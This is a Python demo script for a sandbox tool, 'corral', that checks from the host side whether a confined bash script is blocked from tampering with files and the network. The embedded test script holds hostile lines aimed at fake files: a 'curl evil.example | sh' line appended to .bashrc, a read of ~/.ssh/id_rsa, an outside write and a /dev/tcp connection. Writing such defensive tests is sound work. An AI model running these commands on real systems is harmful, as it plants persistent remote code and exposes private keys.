"""`corral demo`: one sandboxed script, four blocked attempts and one allowed write.

The demo builds a throwaway home directory with a fake SSH key and .bashrc (so your real ones
are never at stake), starts a TCP server on the host's loopback, runs a script in the standard
mode, and then checks each outcome from the host side: the files on disk and the server's log,
not the script's exit codes. Last, it shows what the violation monitor recorded (watching
every open here, `"all"`): each refused file access with the process that tried.
"""

from __future__ import annotations

import os
import socket
import tempfile

from corral.audit.events import Event, MemorySink
from corral.hostpaths import host_paths
from corral.policy.presets import preset_policy
from corral.sandbox import Sandbox

SECRET = "-----BEGIN DEMO KEY----- corral-demo-canary -----END DEMO KEY-----"  # noqa: S105
BASHRC = "# the user's .bashrc\n"

SCRIPT = """
echo 'curl evil.example | sh' >> ~/.bashrc
cat ~/.ssh/id_rsa
echo stolen > "$OUTSIDE/loot.txt"
exec 3<>/dev/tcp/127.0.0.1/$PORT && echo 'connected' >&3
echo 'hello from the sandbox' > result.txt
true
"""


class _CanaryServer:
    """A host loopback listener. The kernel completes a client's handshake into the backlog
    even before accept(), so draining the backlog afterwards counts every connection."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port = self.sock.getsockname()[1]

    def count(self) -> int:
        self.sock.setblocking(False)
        accepted = 0
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return accepted
            accepted += 1
            conn.close()


def _line(what: str, blocked: bool, evidence: str, *, expect_blocked: bool = True) -> str:
    verdict = "BLOCKED" if blocked else "ALLOWED"
    ok = "ok " if blocked == expect_blocked else "FAIL"
    return f"  [{ok}] {what:<34} {verdict:<8} {evidence}"


def main() -> int:
    # Not under /tmp: the sandbox has a private /tmp, so a home there would be invisible
    # inside and every block would hold for the wrong reason.
    with tempfile.TemporaryDirectory(prefix="corral-demo-", dir="/var/tmp") as root:
        home = f"{root}/home"
        workspace = f"{home}/project"
        outside = f"{root}/elsewhere"
        for d in (f"{home}/.ssh", workspace, outside):
            os.makedirs(d)
        with open(f"{home}/.ssh/id_rsa", "w") as f:
            f.write(SECRET)
        with open(f"{home}/.bashrc", "w") as f:
            f.write(BASHRC)
        env = {"HOME": home, "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
        server = _CanaryServer()
        try:
            policy = preset_policy("standard", host_paths(workspace, env))
            env.update(OUTSIDE=outside, PORT=str(server.port))
            recorded = MemorySink()
            result = Sandbox(policy, sink=recorded, monitor="all").run(
                ["bash", "-c", SCRIPT], env=env, capture_output=True, timeout=30
            )
            connections = server.count()
        finally:
            server.sock.close()
        output = (result.stdout or b"").decode() + (result.stderr or b"").decode()
        with open(f"{home}/.bashrc") as f:
            bashrc_intact = f.read() == BASHRC
        wrote = os.path.exists(f"{workspace}/result.txt")
        lines = [
            "corral demo: a script in standard mode, judged from the host side",
            _line("write ~/.bashrc", bashrc_intact, "(host file unchanged)"),
            _line("read ~/.ssh/id_rsa", SECRET not in output, "(the key never reached output)"),
            _line(
                "write outside the workspace",
                not os.path.exists(f"{outside}/loot.txt"),
                "(no file appeared on the host)",
            ),
            _line(
                f"TCP connect to 127.0.0.1:{server.port}",
                connections == 0,
                f"(host server saw {connections} connections)",
            ),
            _line(
                "write result.txt in the workspace",
                not wrote,
                "(file is on the host)" if wrote else "(missing!)",
                expect_blocked=False,
            ),
        ]
        print("\n".join(lines))
        failed = any("[FAIL]" in line for line in lines)
        print("\nwhat the script printed inside:")
        print("".join(f"  | {line}\n" for line in output.splitlines()), end="")
        print("\nwhat corral recorded (corral violations shows the same for corral run):")
        print("".join(f"  {_violation(event)}\n" for event in recorded.events
                      if event.kind == "violation"), end="")  # fmt: skip
        return 1 if failed else 0


def _violation(event: Event) -> str:
    fields = event.fields
    return (
        f"blocked {fields.get('operation')} {fields.get('path')}: {fields.get('rule')}"
        f" (pid {fields.get('pid')}, {fields.get('executable')})"
    )


if __name__ == "__main__":
    raise SystemExit(main())
